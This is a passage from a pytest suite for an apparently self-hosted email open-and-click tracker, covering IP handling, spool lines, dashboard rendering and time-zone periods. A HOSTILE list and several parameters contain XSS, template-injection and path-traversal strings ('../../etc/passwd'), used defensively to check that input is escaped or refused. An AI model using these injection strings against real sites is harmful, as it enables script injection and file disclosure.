    pytest.param(LOCAL, "127.0.0.1", "203.0.113.77, unknown", "", id="unreadable on the right"),
    pytest.param(LOCAL, "127.0.0.1", "203.0.113.77, 1.2.3.4.5", "", id="no address"),
    pytest.param(LOCAL, "127.0.0.1", "\xff\xfe", "", id="bytes"),
    pytest.param(LOCAL, "", "6.6.6.6, 203.0.113.77", "203.0.113.77", id="unix socket"),
    pytest.param(LOCAL, "", None, "", id="unix socket that says nothing"),
    pytest.param(ANYONE, "198.51.100.7", "6.6.6.6, 203.0.113.77", "203.0.113.77", id="whoever connects"),
    pytest.param(ANYONE, "198.51.100.7", None, "198.51.100.7", id="whoever connects, directly"),
]


@pytest.mark.parametrize(("proxies", "peer", "forwarded", "client"), ADDRESSES)
def test_the_address_that_is_kept_is_the_clients(
    staged: Callable[..., Stage], proxies: str, peer: str, forwarded: str | None, client: str
) -> None:
    stage = staged(FORWARDED_ALLOW_IPS=proxies, IP_ADDRESSES="full")
    headers = {} if forwarded is None else {"X-Forwarded-For": forwarded}
    get(stage, f"/{stage.acme.mail_id}/pixel/e1.gif", headers, REMOTE_ADDR=peer)
    assert [line["ip"] for line in spooled(stage)] == [client]
    stage.drain()
    assert stage.rows("select coalesce(address, '') from event_details") == [(client,)]


@pytest.mark.parametrize(
    ("setting", "kept"),
    [
        # By default: whole networks, and so nobody in particular.
        ({}, ["203.0.113.0", "203.0.113.0", "2001:db8:1::", ""]),
        ({"IP_ADDRESSES": "truncated"}, ["203.0.113.0", "203.0.113.0", "2001:db8:1::", ""]),
        ({"IP_ADDRESSES": "full"}, ["203.0.113.77", "203.0.113.77", "2001:db8:1:2::5", ""]),
        ({"IP_ADDRESSES": "none"}, ["", "", "", ""]),
    ],
)
def test_an_address_is_cut_as_the_operator_says_before_anything_is_written(
    staged: Callable[..., Stage], setting: dict[str, str], kept: list[str]
) -> None:
    stage = staged(**setting)
    for n, address in enumerate(("203.0.113.77", "::ffff:203.0.113.77", "2001:db8:1:2::5", "made up")):
        get(stage, f"/{stage.acme.mail_id}/pixel/e{n}.gif", REMOTE_ADDR=address)
        get(stage, f"/{stage.acme.mail_id}/pixel/e{n}x.gif", {"X-Forwarded-For": address}, REMOTE_ADDR="127.0.0.1")
    twice = [address for address in kept for _ in range(2)]
    assert [line["ip"] for line in spooled(stage)] == twice
    stage.drain()
    by_key = "select coalesce(address, '') from event_details order by key"
    assert [row[0] for row in stage.rows(by_key)] == twice


@pytest.mark.parametrize("setting", ["truncated", "full", "none"])
def test_a_hit_from_an_address_of_the_senders_own_is_set_aside_whatever_is_kept_of_addresses(
    staged: Callable[..., Stage], setting: str
) -> None:
    stage = staged(IP_ADDRESSES=setting)
    with tracker.changing_tenants(stage.database) as connection:
        tracker.set_tenant_rules(connection, stage.acme.number, "own", ["203.0.113.7", "2001:db8:1::/48"])
    stage.refresh()
    peers = ("203.0.113.7", "::ffff:203.0.113.7", "2001:db8:1:2::5", "203.0.113.8", "2001:db8:2::5", "made up")
    for n, address in enumerate(peers):
        get(stage, f"/{stage.acme.mail_id}/pixel/e{n}.gif", {"User-Agent": CHROME}, REMOTE_ADDR=address)
    get(stage, f"/{stage.globex.mail_id}/pixel/theirs.gif", {"User-Agent": CHROME}, REMOTE_ADDR="203.0.113.7")
    get(stage, f"/{stage.acme.mail_id}/pixel/said.gif?own=1", {"User-Agent": CHROME}, REMOTE_ADDR="203.0.113.9")
    stage.drain()
    own, person = ("self", "own-address"), ("human", "browser")
    found = stage.rows("select key, verdict, reason from event_details")
    assert {key: (verdict, reason) for key, verdict, reason in found} == {
        **dict.fromkeys(("e0", "e1", "e2"), own),
        **dict.fromkeys(("e3", "e4", "e5", "theirs", "said"), person),
    }
    hits = get(stage, f"/{stage.acme.id}/stats.json").json["activity"]["opens"]["hits"]
    assert hits == {"person": 4, "unconfirmed": 0, "machine": 0, "set_aside": 3}
    assert stage.check() == []


# -- The line in the spool: others read it, and nginx writes it


def test_a_hit_is_one_line_of_json_with_these_fields(stage: Stage) -> None:
    target = f"/{stage.acme.mail_id}/pix%65l/e1.gif?a=%41&b=c+d%00"
    before = time.time()
    get(stage, target, {"User-Agent": CHROME, "Sec-Purpose": "prefetch", "Sec-GPC": "1"}, HTTP_HOST="Track.Example.com")
    (path,) = stage.spool.glob("*.jsonl")
    assert path.read_bytes().count(b"\n") == 1
    (line,) = spooled(stage)
    assert re.fullmatch("[0-9a-f]{16,}", line.pop("id"))
    at = line.pop("t")
    assert isinstance(at, float)
    assert before - 0.001 <= at <= time.time() + 0.001
    assert line == {
        "method": "GET",
        "host": "track.example.com",
        "uri": target,  # as it came, not as it was understood
        "ip": "192.0.2.0",
        "ua": CHROME,
        "answer": "pixel",
        "purpose": "prefetch",
        "gpc": "1",
    }


def test_fields_that_say_nothing_are_left_out(stage: Stage) -> None:
    get(stage, f"/{stage.acme.mail_id}/pixel/e1.gif")
    (line,) = spooled(stage)
    assert list(line) == ["id", "t", "method", "host", "uri", "ip", "ua", "answer"]
    assert line["ua"] == ""


@pytest.mark.parametrize("header", ["Sec-Purpose", "Purpose", "X-Purpose", "X-Moz"])
def test_every_header_that_says_prefetch_is_kept(stage: Stage, header: str) -> None:
    get(stage, f"/{stage.acme.mail_id}/pixel/e1.gif", {header: "prefetch;prerender", "User-Agent": CHROME})
    assert spooled(stage)[0]["purpose"] == "prefetch;prerender"
    stage.drain()
    assert stage.rows("select verdict, reason from event_details") == [("prefetch", "prefetch-header")]


def test_the_line_says_how_the_hit_was_answered_and_why(stage: Stage) -> None:
    path = f"/{stage.acme.mail_id}/click/e1"
    call(stage, "HEAD", path + "?url=https%3A%2F%2Facme.com%2F")
    assert get(stage, path + "?url=https%3A%2F%2Felsewhere.example%2F").status == 200
    stage.change(stage.acme, block=["bad.acme.com"])
    get(stage, path + "?url=https%3A%2F%2Fbad.acme.com%2F")
    stage.change(stage.acme, suspended=True)
    get(stage, path + "?url=https%3A%2F%2Facme.com%2F")
    told = [(line["method"], line["answer"], line.get("why")) for line in spooled(stage)]
    assert told == [
        ("HEAD", "302", None),
        ("GET", "named", "destination-not-allowed"),
        ("GET", "named", "destination-blocked"),
        ("GET", "named", "suspended"),
    ]


def test_the_uri_is_put_together_where_the_server_does_not_give_it(stage: Stage) -> None:
    path = f"/{stage.acme.mail_id}/pixel/a+b@c.gif"
    get(stage, path + "?x=%2F", RAW_URI="")
    get(stage, path + "?x=%2F", RAW_URI="", REQUEST_URI="/" + path.lstrip("/") + "?y=1")
    assert [line["uri"] for line in spooled(stage)] == [path + "?x=%2F", path + "?y=1"]
    stage.drain()
    assert stage.rows("select key from emails") == [("a+b@c",)]


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        (b"Caf\xc3\xa9 \xe2\x82\xac", "Café €"),
        (b"Caf\xe9", "Caf\\xe9"),
        (b"\xff\xfe\x80", "\\xff\\xfe\\x80"),
        (b'quo"te\\ and \t tab', 'quo"te\\ and \t tab'),
        (b"x" * 100_000, "x" * 512),
    ],
    ids=["UTF-8", "latin-1", "bytes", "JSON's own characters", "very long"],
)
def test_a_user_agent_of_any_bytes_is_kept_as_readable_text(stage: Stage, sent: bytes, kept: str) -> None:
    agent = sent.decode("latin-1")
    assert get(stage, f"/{stage.acme.mail_id}/pixel/e1.gif", {"User-Agent": agent})["X-Tracker"] == "recorded"
    assert spooled(stage)[0]["ua"] == kept
    assert stage.drain().rejected == 0
    assert stage.rows("select agent from event_details") == [(kept,)]


def test_a_line_has_at_most_16_kilobytes_whatever_was_sent(stage: Stage) -> None:
    headers = dict.fromkeys(("User-Agent", "Sec-Purpose", "Sec-GPC"), '"' * 8000)
    for junk in ("x" * 8000, '"' * 8000, "\x01" * 8000, "\xff" * 8000):
        answer = get(stage, f"/{stage.acme.mail_id}/pixel/e1.gif?{junk}", headers, HTTP_HOST="h" * 8000)
        assert answer.status == 200
        assert answer["X-Tracker"] in ("recorded", "too long")
    for path in stage.spool.glob("*.jsonl"):
        assert all(len(line) <= 16_384 for line in path.read_bytes().splitlines(keepends=True))
    assert len(spooled(stage)) >= 1
    assert stage.drain().rejected == 0


def test_the_reader_gets_an_answer_when_the_spool_cannot_be_written(
    stage: Stage, capsys: pytest.CaptureFixture[str]
) -> None:
    stage.spool.rename(stage.folder / "away")
    answer = stage.pixel("e1")
    assert answer.headers["X-Tracker"] == "unspooled"
    assert get(stage, f"/{stage.acme.mail_id}/click/e1?url=https%3A%2F%2Facme.com%2F").status == 302
    lines = capsys.readouterr().err.splitlines()
    assert [json.loads(line.removeprefix("unspooled "))["answer"] for line in lines] == ["pixel", "302"]


# -- The dashboard


class Page(HTMLParser):
    """What a browser would make of a page: its tags, its text, and the parts that the tests speak of."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.title = ""
        self.rows: list[list[str]] = []
        self.notices: list[str] = []
        self.figures: dict[str, tuple[str, str]] = {}
        self._section: str | None = ""
        self._open = ""
        self._cell = ""
        self._figure = ["", "", ""]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        kind = {"dt": "0", "b": "1", "small": "2", "td": "cell", "th": "cell", "title": "title"}.get(tag, "")
        if kind in ("0", "1", "2") and self._section != "figures":
            kind = ""
        if tag == "p" and dict(attrs).get("class") == "notice":
            kind = "notice"
        if kind:
            self._open, self._cell = kind, ""
        if tag == "section":
            self._section = dict(attrs).get("aria-labelledby")
        if tag == "tr" and self._section == "emails":
            self.rows.append([])

    def handle_data(self, data: str) -> None:
        data = data.replace("\N{NO-BREAK SPACE}", " ")
        self.text += data
        self._cell += data

    def handle_endtag(self, tag: str) -> None:
        if self._open == "cell" and tag in ("td", "th"):
            if self._section == "emails":
                self.rows[-1].append(self._cell.strip())
        elif self._open == "notice" and tag == "p":
            self.notices.append(self._cell)
        elif self._open == "title" and tag == "title" and not self.title:
            self.title = self._cell
        elif self._open in ("0", "1", "2") and tag in ("dt", "b", "small"):
            self._figure[int(self._open)] = self._cell
            if tag == "small":
                self.figures[self._figure[0]] = (self._figure[1], self._figure[2].removesuffix(" Why?"))
        else:
            return
        self._open = ""

    @property
    def links(self) -> list[str]:
        return [value or "" for _, attrs in self.tags for name, value in attrs.items() if name in ("href", "src")]

    def link_called(self, text: str, page: str) -> str | None:
        match = re.search(rf'<a href="([^"]*)"[^>]*>{text}</a>', page)
        return match and match[1].replace("&amp;", "&")


def parse(answer: Answer) -> Page:
    page = Page()
    page.feed(answer.text)
    page.close()
    return page


def dashboard(stage: Stage, query: str = "", tenant: tracker.Tenant | None = None) -> Page:
    answer = get(stage, f"/{(tenant or stage.acme).id}/dashboard{query}")
    assert answer.status == 200
    return parse(answer)


def mailing(stage: Stage) -> Stage:
    """Four emails: one that a person read, one that Apple fetched, one that machines read, one that nobody did."""
    now = tracker.now_ms()
    names = ("person", "apple", "machine", "nobody")
    emails = (tracker.Registration(name, f"Dear {name}", f"{name}@example.org", "spring") for name in names)
    register(stage, stage.acme, *emails, at=now - 60_000)
    segment(
        stage,
        hit(stage, "person", now - 55_000),
        hit(stage, "person", now - 40_000),
        click(stage, "person", at=now - 30_000),
        click(stage, "person", "https://elsewhere.example/", now - 29_000, answer="named", why="destination-not-allowed"),
        hit(stage, "apple", now - 50_000, ua=APPLE),
        hit(stage, "machine", now - 50_000, ua="curl/8.0"),
        click(stage, "machine", at=now - 40_000, method="HEAD"),
        hit(stage, "unknown", now - 20_000),
    )  # fmt: skip
    stage.drain()
    assert stage.check() == []
    return stage


def test_the_dashboard_shows_the_numbers_of_a_small_mailing(stage: Stage) -> None:
    page = dashboard(mailing(stage))
    assert page.title == "Acme: opens and clicks"
    assert page.figures == {
        "Sent": ("4", "emails sent in this range"),
        "Opened": ("25.0–50.0 %", "of these: 1 by people, 1 unconfirmed, 1 by machines"),
        "Clicked": ("25.0 %", "of these: 1 by people, 0 unconfirmed, 1 by machines"),
        "Click-to-open": ("100.0 %", "of 1 email that people read"),
        # The opens of mail that nobody registered are opens all the same: 3 by people, of 2 emails.
        "Opens": ("5", "3 by people (2 emails), 1 unconfirmed (1 email), 1 by machines (1 email)"),
        "Clicks": ("2", "1 by people (1 email), 0 unconfirmed (0 emails), 1 by machines (1 email)"),
        "Machines": ("2", "1 on pixels and 1 on links"),
    }  # fmt: skip
    unregistered, named = page.notices
    assert "1 email that nobody registered" in unregistered
    assert "Opened: 1 by people, 0 unconfirmed, 0 by machines" in unregistered
    assert "in no rate" in unregistered
    assert named == (
        "1 click to elsewhere.example met the naming page: this tenant had not allowed that host. "
        f"`tenant set {stage.acme.mail_id} --domain elsewhere.example` allows it from then on."
    )
    # Those sent last stand first; the hit that made "unknown" came after all of them.
    assert [[row[1], row[0], row[5], row[2], row[3]] for row in page.rows] == [
        ["Subject", "Recipient", "Campaign", "Opens", "Clicks"],
        ["(not registered)", "unknown", "", "1 by people", "–"],
        ["Dear nobody", "nobody@example.org", "spring", "–", "–"],
        ["Dear machine", "machine@example.org", "spring", "1 by machines", "1 by machines"],
        ["Dear apple", "apple@example.org", "spring", "1 unconfirmed", "–"],
        ["Dear person", "person@example.org", "spring", "2 by people", "1 by people acme.com"],
    ]


def test_a_tenant_without_mail_sees_no_rate_and_what_to_do(stage: Stage) -> None:
    page = dashboard(stage)
    assert page.figures["Opened"][0] == "–"
    assert page.notices == []
    assert NO_EMAILS in page.text


def test_an_open_counts_when_it_happens_and_a_rate_by_when_the_mail_was_sent(stage: Stage) -> None:
    now = tracker.now_ms()
    register(stage, stage.acme, tracker.Registration("old"), at=now - 10 * DAY)
    register(stage, stage.acme, tracker.Registration("fresh"), at=now - 1)
    segment(stage, hit(stage, "old", now - 60_000), hit(stage, "old", now - 9 * DAY))
    week = dashboard(stage, "?range=7d").figures
    assert (week["Sent"][0], week["Opened"][0], week["Opens"][0]) == ("1", "0.0 %", "1")
    # The email became unique nine days ago, so this week saw a hit of it and no new email.
    assert "1 by people (0 emails)" in week["Opens"][1]
    month = dashboard(stage, "?range=30d").figures
    assert (month["Sent"][0], month["Opened"][0], month["Opens"][0]) == ("2", "50.0 %", "2")
    assert "2 by people (1 email)" in month["Opens"][1]


def test_the_numbers_are_there_without_a_command_since_every_page_drains_first(stage: Stage) -> None:
    stage.pixel("e1")
    assert dashboard(stage).figures["Opens"][0] == "1"


def test_hits_that_could_not_be_drained_in_time_are_said_to_wait(stage: Stage) -> None:
    stage.pixel("e1")
    lock = os.open(stage.folder / "write.lock", os.O_RDWR | os.O_CREAT)
    fcntl.flock(lock, fcntl.LOCK_EX)  # somebody writes, and does not come to an end
    try:
        page = dashboard(stage)
        numbers = get(stage, f"/{stage.acme.id}/stats.json").json
    finally:
        os.close(lock)
    assert numbers["waiting_hits"] == 1
    assert re.match(r"About 1 hits? (is|are) still waiting to be counted", page.notices[0]), page.notices[0]
    assert not any("waiting" in notice for notice in dashboard(stage).notices)
    assert get(stage, f"/{stage.acme.id}/stats.json").json["waiting_hits"] == 0


def test_a_suspended_tenant_is_told_so(stage: Stage) -> None:
    stage.change(stage.acme, suspended=True)
    assert "suspended" in dashboard(stage).notices[0]


HOSTILE = [
    "</title></td></table><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "$name ${body} $$ $rows",
    "<!--",
    "&lt;b&gt; &amp; &#60;script&#62;",
    "{{7*7}} %s %(name)s",
    "\u202egnp.exe",  # the bdi around it keeps a right-to-left override from spilling
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_strangers_write_is_shown_and_never_obeyed(stage: Stage, text: str) -> None:
    stage.change(stage.acme, name=text)
    register(stage, stage.acme, tracker.Registration("e1", text, text, text))
    harmless = dashboard(stage, tenant=stage.globex)
    answer = get(stage, f"/{stage.acme.id}/dashboard")
    page = parse(answer)
    assert [page.rows[1][n] for n in (0, 1, 5)] == [text, text, text]
    assert page.title == f"{text}: opens and clicks"
    # The same tags as an empty page and one row: nothing that was written became a tag or an attribute.
    assert {tag for tag, _ in page.tags} - {tag for tag, _ in harmless.tags} <= {
        *("table", "thead", "tbody", "tr", "th", "td", "bdi", "small", "time", "svg", "span"),
    }
    assert_inert(page)


def assert_inert(page: Page) -> None:
    """No script, no style of a page's own, nothing loaded from elsewhere."""
    for tag, attributes in page.tags:
        assert tag not in ("script", "style", "iframe", "object", "embed", "base")
        assert tag != "form" or attributes["method"] == "get"
        assert tag != "link" or attributes["rel"] in ("icon", "stylesheet")
        assert not [name for name in attributes if name.startswith("on") or name in ("style", "srcset", "formaction")]
        assert re.match(r"/(?!/)", attributes.get("action") or "/")
        assert attributes.get("http-equiv") is None
    for link in page.links:
        assert re.match(r"/(?!/)|[?#]|\.\.?/", link), f"{link} leads away"


def test_no_page_holds_a_script_or_leads_away(stage: Stage) -> None:
    mail_id = mailing(stage).acme.mail_id
    paths = ("/", "/nothing", f"/{stage.acme.id}/dashboard", f"/{stage.acme.id}/dashboard?tz=x", f"/{stage.acme.id}/emails",
             f"/{mail_id}/click/e1", f"/{mail_id}/click/e1?url=ftp://x", f"/{mail_id}/click/e1/x/y")  # fmt: skip
    for path in paths:
        answer = get(stage, path)
        assert_private(answer)
        if answer["Content-Type"].startswith("text/html"):
            assert_inert(parse(answer))


def test_a_dashboard_id_stands_on_its_own_pages_only(stage: Stage) -> None:
    mail_id = mailing(stage).acme.mail_id
    pixel = get(stage, f"/{mail_id}/pixel/e1.gif")
    public = [
        get(stage, path)
        for path in ("/", "/health", "/nothing", f"/{mail_id}/click/e1?url=https://elsewhere.example/", f"/{mail_id}/click/e1",
                     f"/{stage.acme.id}/nothing", f"/{stage.acme.id}/dashboard?range=x", f"/{stage.acme.id}/stats.json?tz=x")
    ]  # fmt: skip
    for answer in (pixel, *public):
        for tenant in (stage.acme, stage.globex):
            assert tenant.id.encode() not in answer.body
            assert not any(tenant.id in value for _, value in answer.headers)


def test_the_naming_page_names_the_destination_and_has_a_bare_link_to_it(stage: Stage) -> None:
    # The link must not be one of ours: whoever copies it from here would send others through the tracker.
    target = "https://elsewhere.example/a?b=%22c%22&d=<e>'#f"
    answer = get(stage, f"/{stage.acme.mail_id}/click/e1?url={target}")
    page = parse(answer)
    assert_private(answer)
    assert page.title == "This link leads to elsewhere.example"
    (link,) = [attributes for tag, attributes in page.tags if tag == "a"]
    assert link["href"] == "https://elsewhere.example/a?b=%22c%22&d=%3Ce%3E'#f"
    assert set((link["rel"] or "").split()) >= {"noreferrer", "nofollow"}
    assert "script" not in [tag for tag, _ in page.tags]


def shown_keys(page: Page) -> list[str]:
    return [row[0] for row in page.rows[1:]]


def test_older_emails_lead_on_page_by_page_and_no_email_is_shown_twice(stage: Stage) -> None:
    # All at one moment, as a mailing is: the time alone does not tell pages apart.
    register(stage, stage.acme, *(tracker.Registration(f"e{n:03}") for n in range(120)))
    seen: list[str] = []
    sizes = []
    path: str | None = f"/{stage.acme.id}/dashboard?range=7d&tz=Europe%2FRome"
    while path:
        answer = get(stage, path)
        page = parse(answer)
        keys = shown_keys(page)
        sizes.append(len(keys))
        seen += keys
        section = answer.text[answer.text.index('<h2 id="emails">') :]
        path = page.link_called("More", section)
        assert path is None or "range=7d" in path
        assert path is None or "tz=Europe%2FRome" in path
        path = path and f"/{stage.acme.id}/dashboard{path.partition('#')[0]}"
        # New mail goes on top and moves no row onto the next page a second time.
        register(stage, stage.acme, tracker.Registration(f"later{len(sizes)}"))
    assert sizes == [tracker.EMAIL_ROWS] * 10
    assert seen == [f"e{n:03}" for n in range(119, -1, -1)]


@pytest.mark.parametrize(("emails", "more"), [(tracker.EMAIL_ROWS, False), (tracker.EMAIL_ROWS + 1, True)])
def test_older_emails_are_offered_when_there_are_some(stage: Stage, emails: int, more: bool) -> None:
    register(stage, stage.acme, *(tracker.Registration(f"e{n}") for n in range(emails)))
    answer = get(stage, f"/{stage.acme.id}/dashboard")
    assert len(shown_keys(parse(answer))) == tracker.EMAIL_ROWS
    section = answer.text[answer.text.index('<h2 id="emails">') :]
    assert (parse(answer).link_called("More", section) is not None) == more


@pytest.mark.parametrize("name", list(tracker.RANGES))
def test_every_range_is_shown_in_every_time_zone(stage: Stage, name: str) -> None:
    mailing(stage)
    for zone in ("UTC", "Europe/Rome", "Asia/Kolkata", "America/St_Johns", "Pacific/Chatham"):
        assert_range_is_shown(stage, name, zone)


def assert_range_is_shown(stage: Stage, name: str, zone: str) -> None:
    answer = get(stage, f"/{stage.acme.id}/dashboard?range={name}&tz={zone.replace('/', '%2F')}")
    page = parse(answer)
    current = [attributes for tag, attributes in page.tags if tag == "a" and attributes.get("aria-current") == "page"]
    default = name == tracker.DEFAULT_RANGE
    assert [default or f"range={name}" in (attributes["href"] or "") for attributes in current] == [True]
    assert f'name="tz" value="{zone}"' in answer.text
    assert page.figures["Opens"][0] == "5"
    for link in page.links:
        if re.match(r"\?(.*&)?range=", link):
            assert get(stage, f"/{stage.acme.id}/dashboard{link.partition('#')[0]}").status == 200
            assert zone == stage.acme.tz or f"tz={zone.replace('/', '%2F')}" in link  # one click away, in the same zone
    numbers = get(stage, f"/{stage.acme.id}/stats.json?range={name}&tz={zone}").json
    assert numbers["range"]["name"] == name
    assert numbers["range"]["tz"] == zone
    for kind in ("opens", "clicks"):
        steps = [sum(step[kind].values()) for step in numbers["steps"]]
        assert sum(steps) == sum(numbers["activity"][kind]["hits"].values())


def test_times_are_shown_in_the_time_zone_asked_for(stage: Stage) -> None:
    at = tracker.now_ms() - 3_600_000
    register(stage, stage.acme, tracker.Registration("e1"), at=at)
    for name in ("UTC", "Asia/Kolkata"):
        local = datetime.fromtimestamp(at / 1000, zoneinfo.ZoneInfo(name))
        shown = [attributes.get("title") for tag, attributes in dashboard(stage, f"?tz={name}").tags if tag == "time"]
        assert local.strftime("%d %b %Y %H:%M") in shown


@pytest.mark.parametrize(
    "zone",
    ["Mars/Olympus", "../../etc/passwd", "/etc/localtime", "europe", "Europe", "é", "x" * 5000, "a%00b", "<script>"],
)
def test_a_time_zone_that_is_none_is_refused_with_an_example_of_one(still: Stage, zone: str) -> None:
    for page in ("dashboard", "stats.json"):
        told = assert_error(get(still, f"/{still.acme.id}/{page}?tz={zone}"), 400)
        assert "expected a time zone such as Europe/Rome" in told


@pytest.mark.parametrize("name", ["1h", "30D", "30d ", "all,7d", "-1", "<script>", "%00", "x" * 5000])
def test_a_range_that_is_none_is_refused_with_those_there_are(still: Stage, name: str) -> None:
    for page in ("dashboard", "stats.json"):
        told = assert_error(get(still, f"/{still.acme.id}/{page}?range={name}"), 400)
        assert "expected one of 24h, 7d, 30d, 90d, 12m, all" in told


@pytest.mark.parametrize("after", ["x", "1", "1-", "-1", "1-2-3", "%00", "9" * 30 + "-1"])
def test_a_place_to_go_on_from_that_is_none_is_refused(still: Stage, after: str) -> None:
    for page in ("dashboard", "emails.json", "events.csv", "links.json"):
        assert "after: expected" in assert_error(get(still, f"/{still.acme.id}/{page}?after={after}"), 400)


def test_with_one_id_the_pages_leave_out_who_was_written_to(stage: Stage) -> None:
    one = add_one_id(stage)
    stage.change(one, api_key_hash=tracker.key_hash(ACME_KEY))
    register(stage, one, tracker.Registration("e1", "A secret subject", "reader@example.org", "spring"))
    stage.pixel("e1", one)
    answer = get(stage, f"/{one.id}/dashboard")
    assert b"secret subject" not in answer.body
    assert b"reader@example.org" not in answer.body
    assert shown_keys(parse(answer)) == ["e1"]
    assert "Recipients and subjects are left out" in parse(answer).notices[0]
    personal = {"recipient", "subject", "ip_address"}
    for table, fields in (("emails", tracker.EMAILS.fields), ("events", tracker.EVENTS.fields)):
        for key, left_out in (("", personal), ("wrong", personal), (ACME_KEY, set())):
            expected = [name for name in fields if name not in left_out]
            (row,) = get(stage, f"/{one.id}/{table}.json", bearer(key)).json["rows"]
            assert list(row) == expected
            (header, _) = read_csv(get(stage, f"/{one.id}/{table}.csv", bearer(key)))
            assert header == [*expected, "next"]
    assert "A secret subject" in get(stage, f"/{one.id}/dashboard", bearer(ACME_KEY)).text


# -- How periods are cut (pure)

ROME = zoneinfo.ZoneInfo("Europe/Rome")


def local_ms(zone: str, *moment: int) -> int:
    return int(datetime(*moment, tzinfo=zoneinfo.ZoneInfo(zone)).timestamp() * 1000)  # type: ignore[misc,arg-type]


@pytest.mark.parametrize(
    ("name", "count", "step"),
    [
        ("24h", 24, "hour"),
        ("7d", 7, "day"),
        ("30d", 30, "day"),
        ("90d", 90, "day"),
        ("12m", 53, "week"),
        ("all", 1, "week"),
    ],
)
@pytest.mark.parametrize("zone", ["UTC", "Europe/Rome", "Asia/Kolkata"])
def test_a_range_has_so_many_steps_and_now_is_in_the_last(name: str, count: int, step: str, zone: str) -> None:
    period = tracker.read_period(name, zone, NOW, None)
    assert (len(period.starts), period.step, period.zone_name) == (count, step, zone)
    assert period.starts == sorted(set(period.starts))
    assert period.starts[-1] <= NOW < period.end
    span = period.span("Nowhere/Else")
    assert span.start * tracker.QUARTER_MS <= period.starts[0] <= NOW < span.end * tracker.QUARTER_MS


@pytest.mark.parametrize(
    ("moment", "hours"),
    [
        ((2026, 3, 31, 12), [24, 24, 24, 24, 23, 24]),  # summer time began on Sunday the 29th
        ((2026, 10, 27, 12), [24, 24, 24, 24, 25, 24]),  # and ended on Sunday the 25th of October
    ],
)
def test_days_begin_at_local_midnight_over_a_change_of_summer_time(moment: tuple[int, ...], hours: list[int]) -> None:
    period = tracker.read_period("7d", "Europe/Rome", local_ms("Europe/Rome", *moment), None)
    assert [datetime.fromtimestamp(at / 1000, ROME).time().isoformat() for at in period.starts] == ["00:00:00"] * 7
    pairs = itertools.pairwise(period.starts)
    assert [(end - start) // 3_600_000 for start, end in pairs] == hours


@pytest.mark.parametrize(
    ("zone", "utc"), [("Asia/Kolkata", "18:30:00"), ("Asia/Kathmandu", "18:15:00"), ("Australia/Eucla", "15:15:00")]
)
def test_days_begin_at_local_midnight_where_the_zone_is_a_part_of_an_hour_off(zone: str, utc: str) -> None:
    period = tracker.read_period("30d", zone, NOW, None)
    assert {datetime.fromtimestamp(at / 1000, timezone.utc).time().isoformat() for at in period.starts} == {utc}
    assert all(at % tracker.QUARTER_MS == 0 for at in period.starts)  # so a day is made of whole quarters


def test_a_day_begins_with_its_first_moment_in_every_time_zone_there_is() -> None:
    # Some change their clocks at midnight: the day then begins at 01:00, or has two midnights.
    for name in sorted(zoneinfo.available_timezones() - {"localtime"}):
        zone = zoneinfo.ZoneInfo(name)
        for now in (NOW, NOW - 45 * DAY, NOW - 180 * DAY):
            starts = tracker.read_period("90d", name, now, None).starts
            today = datetime.fromtimestamp(now / 1000, zone).date()
            for back, at in enumerate(reversed(starts)):
                day = today - timedelta(days=back)
                assert datetime.fromtimestamp(at / 1000, zone).date() == day, name
                assert datetime.fromtimestamp((at - 1) / 1000, zone).date() < day, name


def test_hours_are_those_of_the_clock_on_the_wall() -> None:
    period = tracker.read_period("24h", "Asia/Kolkata", local_ms("Asia/Kolkata", 2026, 11, 24, 14, 20), None)
    assert period.starts[-1] == local_ms("Asia/Kolkata", 2026, 11, 24, 14)
    assert period.starts[0] == local_ms("Asia/Kolkata", 2026, 11, 23, 15)


def test_an_hour_that_comes_twice_is_two_steps() -> None:
    # In Rome on 25 October 2026 the hour from 02:00 comes twice.
    period = tracker.read_period("24h", "Europe/Rome", local_ms("Europe/Rome", 2026, 10, 25, 12, 30), None)
    pairs = itertools.pairwise(period.starts)
    assert {end - start for start, end in pairs} == {3_600_000}
    shown = [datetime.fromtimestamp(at / 1000, ROME).strftime("%H:%M") for at in period.starts]
    assert shown.count("02:00") == 2
    assert shown[0] == "14:00"


def local_dates(period: tracker.Period) -> list[date]:
    moments = [datetime.fromtimestamp(at / 1000, period.zone) for at in period.starts]
    assert all(moment.hour == 0 and moment.minute == 0 for moment in moments)
    return [moment.date() for moment in moments]


def test_twelve_months_are_whole_weeks_from_monday() -> None:
    dates = local_dates(tracker.read_period("12m", "Europe/Rome", NOW, None))
    assert {day.weekday() for day in dates} == {0}
    assert dates[-1] == date(2026, 11, 23)  # NOW is the Tuesday after
    assert dates[0] == date(2025, 11, 24)  # the week of the same day a year ago
    assert {(b - a).days for a, b in itertools.pairwise(dates)} == {7}


@pytest.mark.parametrize(
    ("first", "count", "step", "begin"),
    [
        (None, 1, "week", date(2026, 11, 23)),
        (local_ms("UTC", 2026, 11, 22, 23, 59), 2, "week", date(2026, 11, 16)),
        (local_ms("UTC", 2024, 12, 2), 104, "week", date(2024, 12, 2)),
        (local_ms("UTC", 2024, 12, 1, 23), 24, "month", date(2024, 12, 1)),
        (local_ms("UTC", 2000, 1, 31), 323, "month", date(2000, 1, 1)),
        (NOW + 400 * DAY, 1, "week", date(2026, 11, 23)),  # a clock that was wrong
    ],
)
def test_all_begins_with_the_first_number_in_weeks_and_after_two_years_in_months(
    first: int | None, count: int, step: str, begin: date
) -> None:
    period = tracker.read_period("all", "UTC", NOW, first)
    dates = local_dates(period)
    assert (len(dates), period.step, dates[0]) == (count, step, begin)
    if step == "month":
        assert {day.day for day in dates} == {1}
        assert dates[-1] == date(2026, 11, 1)


@pytest.mark.parametrize(
    "zone",
    ["", ".", "..", "/", "\0", "\ud800", "Europe/", "Europe/Rome/x", "zone.tab", "tzdata.zi", "\n", "UTC ", "a" * 300],
)
def test_a_text_that_is_no_time_zone_is_a_bad_period(zone: str) -> None:
    with pytest.raises(tracker.BadPeriod, match="expected a time zone"):
        tracker.read_zone(zone)


def test_a_hit_falls_into_its_local_day_to_the_millisecond(stage: Stage) -> None:
    midnight = local_ms("Asia/Kolkata", 2026, 11, 20)
    segment(stage, *(hit(stage, "e1", at) for at in (midnight - 1, midnight, midnight + 1)))
    stage.drain()

    def opens_a_day(zone: str) -> dict[str, int]:
        with stage.database.reading() as connection:
